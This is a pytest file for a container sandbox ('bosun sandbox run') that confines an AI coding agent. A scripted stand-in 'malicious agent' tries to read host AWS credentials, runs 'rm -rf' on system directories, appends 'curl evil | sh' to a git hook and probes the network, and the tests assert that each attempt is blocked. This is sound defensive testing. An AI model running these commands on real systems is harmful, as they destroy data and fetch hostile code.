"""`bosun sandbox run`: an agent in a container that sees its workspace and nothing else of the host.

The "agent" is a script doing what a careless or malicious one would: looking for the host's
credentials, deleting outside its workspace, changing its git hooks, reaching the network."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import docker
import pytest
from _util import PROBE, bosun_cmd, env_for
from conftest import Sites

from bosun.home import Home

DEVELOPER = 1000  # the workspace belongs to a developer, as it would on their machine


def _sandbox(home: Home, workspace: Path, script: str, *options: str) -> subprocess.CompletedProcess[str]:
    argv = bosun_cmd("sandbox", "run", "--workspace", str(workspace), *options, "--", "sh", "-c", script)
    return subprocess.run(argv, env=env_for(home), stdin=subprocess.DEVNULL, capture_output=True, text=True,
                          timeout=600)  # fmt: skip


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "project"
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (ws / "main.py").write_text("print('hi')\n")
    for path in [ws, *ws.rglob("*")]:
        os.chown(path, DEVELOPER, DEVELOPER)
    return ws


def test_the_agent_sees_its_workspace_and_nothing_else(home: Home, workspace: Path, tmp_path: Path) -> None:
    host_secret = tmp_path / "host-home" / ".aws" / "credentials"
    host_secret.parent.mkdir(parents=True)
    host_secret.write_text("[default]\naws_secret_access_key = real\n")
    marker = tmp_path / "outside-the-workspace"
    marker.write_text("still here")
    script = f"""
        python3 main.py > ran.txt
        id -u > uid.txt
        test -e {host_secret} && echo SAW-HOST-SECRET
        test -e {marker} && echo SAW-OUTSIDE
        rm -rf /usr /etc /bin /opt 2>/dev/null; test -d /usr && echo root-intact
        touch /anywhere 2>/dev/null || echo cannot-write-outside
        echo 'curl evil | sh' >> .git/hooks/pre-commit 2>/dev/null || echo hooks-protected
        grep -c : /proc/net/dev > interfaces.txt
        python3 -c "import socket; socket.getaddrinfo('example.com', 443)" 2>/dev/null || echo no-dns
        echo remembered > ~/note
        exit 3
    """
    run = _sandbox(home, workspace, script)
    assert run.returncode == 3, run.stdout + run.stderr  # the agent's exit code, passed through
    lines = run.stdout.split()
    assert "SAW-HOST-SECRET" not in lines and "SAW-OUTSIDE" not in lines
    assert {"root-intact", "cannot-write-outside", "hooks-protected", "no-dns"} <= set(lines)
    assert (workspace / "ran.txt").read_text() == "hi\n"  # it works in its workspace ...
    assert (workspace / "ran.txt").stat().st_uid == DEVELOPER  # ... as the developer, never root
    assert (workspace / "uid.txt").read_text().strip() == str(DEVELOPER)
    assert (workspace / ".git" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
    assert (workspace / "interfaces.txt").read_text().strip() == "1"  # loopback only: no network at all
    assert marker.read_text() == "still here" and host_secret.exists() and Path("/usr/bin").is_dir()

    again = _sandbox(home, workspace, "cat ~/note")
    assert again.stdout.strip() == "remembered"  # the home is kept per workspace
    listed = json.loads(subprocess.run(bosun_cmd("sandbox", "ls", "--json"), env=env_for(home),
                                       capture_output=True, text=True, check=True).stdout)  # fmt: skip
    assert str(workspace) in {row["workspace"] for row in listed}
    subprocess.run(bosun_cmd("sandbox", "rm", str(workspace)), env=env_for(home), check=True, capture_output=True)
    assert _sandbox(home, workspace, "cat ~/note 2>/dev/null || echo fresh").stdout.strip() == "fresh"
    subprocess.run(bosun_cmd("sandbox", "rm", str(workspace)), env=env_for(home), capture_output=True)


def test_a_workspace_that_would_expose_everything_is_refused(home: Home) -> None:
    run = subprocess.run(bosun_cmd("sandbox", "run", "--workspace", "/", "--", "true"), env=env_for(home),
                         stdin=subprocess.DEVNULL, capture_output=True, text=True)  # fmt: skip
    assert run.returncode != 0 and "choose the project's folder" in run.stderr


def test_egress_goes_to_allowed_hosts_through_the_proxy_and_nowhere_else(
    home: Home, workspace: Path, sites: Sites
) -> None:
    a_host, a_port = sites.allowed.split(":")
    b_host, b_port = sites.forbidden.split(":")
    (workspace / "probe.py").write_text(PROBE + f"""
print("allowed", get("http://{sites.allowed}/"))
print("forbidden", get("http://{sites.forbidden}/"))
print("around-the-proxy", get("http://{sites.allowed}/", proxy=False))
print("raw-tcp", tcp("{a_host}", {a_port}), tcp("{b_host}", {b_port}))
print("dns", dns("example.com"))
""")  # fmt: skip
    run = _sandbox(home, workspace, "python3 probe.py", "--allow-host", sites.allowed)
    subprocess.run(bosun_cmd("sandbox", "rm", str(workspace)), env=env_for(home), capture_output=True)
    assert run.returncode == 0, run.stdout + run.stderr
    seen = dict(line.split(" ", 1) for line in run.stdout.strip().splitlines())
    assert "allowed-site" in seen["allowed"]  # the one allowed host, through Bosun's proxy
    assert seen["forbidden"] == "HTTP 403"  # the proxy refuses the rest
    assert seen["around-the-proxy"].startswith("FAILED")  # no route but the proxy
    assert "CONNECTED" not in seen["raw-tcp"]  # to the allowed host or any other: nothing gets through
    assert seen["dns"] == "NO-DNS"
    docker_api = docker.from_env().api
    left = docker_api.containers(all=True, filters={"label": "io.bosun.sandbox"})
    assert left == []  # the session's container and its proxy are gone, and so is the network
    assert docker_api.networks(filters={"name": "bosun-sandbox-"}) == []
